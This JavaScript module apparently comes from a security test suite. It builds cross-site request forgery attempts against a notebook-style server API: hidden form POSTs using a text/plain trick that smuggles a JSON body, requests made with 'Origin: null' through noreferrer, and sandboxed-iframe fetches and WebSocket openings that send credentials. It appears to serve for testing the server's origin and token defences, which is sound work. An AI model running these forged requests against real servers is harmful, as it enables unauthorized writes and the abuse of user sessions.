// Forms need no script and no permission to be posted anywhere; nor do frames whose origin is "null".
import { withToken, writes } from "./attack_targets.js";

// A frame that got no document (204) says nothing.
const SECONDS = 1;

// A text/plain form sends NAME=VALUE, so a body that is JSON, with the "=" inside a string.
function jsonFields(body) {
  const [before, after] = JSON.stringify({ ...body, filler: "=" }).split("=");
  return { [before]: after };
}

function field(name, value) {
  return Object.assign(document.createElement("input"), { type: "hidden", name, value });
}

function post(action, enctype, fields, rel) {
  const target = `frame-${Math.random()}`;
  const frame = Object.assign(document.createElement("iframe"), { name: target });
  const form = Object.assign(document.createElement("form"), { action, enctype, target, rel });
  form.method = "POST";
  form.append(...Object.entries(fields).map(([name, value]) => field(name, value)));
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.onload = () => resolve(frame.contentDocument?.body?.textContent);
    setTimeout(resolve, SECONDS * 1000);
    form.submit();
  });
}

// `noreferrer` makes the browser say `Origin: null`.
function postAttempts(given, rel) {
  const posts = writes(given, `form-${rel}`).filter(([method]) => method === "POST");
  return posts.flatMap(([, path, body]) => {
    const url = withToken(given.server + path, given);
    const plain = () => post(url, "text/plain", jsonFields(body), rel);
    const encoded = () =>
      post(
        url,
        "application/x-www-form-urlencoded",
        { token: given.token, _xsrf: given.xsrf },
        rel,
      );
    return [
      [`form ${rel} text/plain: ${path}`, plain],
      [`form ${rel} urlencoded: ${path}`, encoded],
    ];
  });
}

// Runs `attack(url, socketUrl, report)` in a sandboxed frame, whose origin is "null".
function inSandbox(attack, ...args) {
  const call = `(${attack})(${args.map((arg) => JSON.stringify(arg)).join(", ")})`;
  const source = `<script>${call}.then((read) => parent.postMessage({ sandbox: read }, "*"))</script>`;
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms";
  frame.srcdoc = source;
  return new Promise((resolve) => {
    addEventListener("message", function listen({ source: from, data }) {
      if (from !== frame.contentWindow) return;
      removeEventListener("message", listen);
      resolve(data.sandbox);
    });
    document.body.append(frame);
  });
}

async function sandboxedFetch(url, init) {
  return fetch(url, init).then(
    ({ status, type }) => (type === "opaque" ? "" : `status ${status}`),
    () => "",
  );
}

async function sandboxedSocket(url, protocols) {
  const socket = new WebSocket(url, protocols);
  return new Promise((resolve) => {
    socket.onopen = () => resolve("a socket");
    socket.onerror = () => resolve("");
  });
}

function nullAttempts(given) {
  const headers = { Authorization: `token ${given.token}` };
  const body = JSON.stringify({ type: "file", ext: ".sandbox" });
  const contents = withToken(`${given.server}api/contents`, given);
  const post = { method: "POST", mode: "no-cors", credentials: "include", body };
  const events = withToken(`${given.socketServer}api/events/subscribe`, given);
  return [
    ["null origin: fetch", () => inSandbox(sandboxedFetch, contents, { headers })],
    ["null origin: fetch without preflight", () => inSandbox(sandboxedFetch, contents, {})],
    ["null origin: no-cors POST", () => inSandbox(sandboxedFetch, contents, post)],
    ["null origin: WebSocket", () => inSandbox(sandboxedSocket, events, [])],
  ];
}

export function formAttempts(given) {
  return [
    ...postAttempts(given, "opener"),
    ...postAttempts(given, "noreferrer"),
    ...nullAttempts(given),
  ];
}
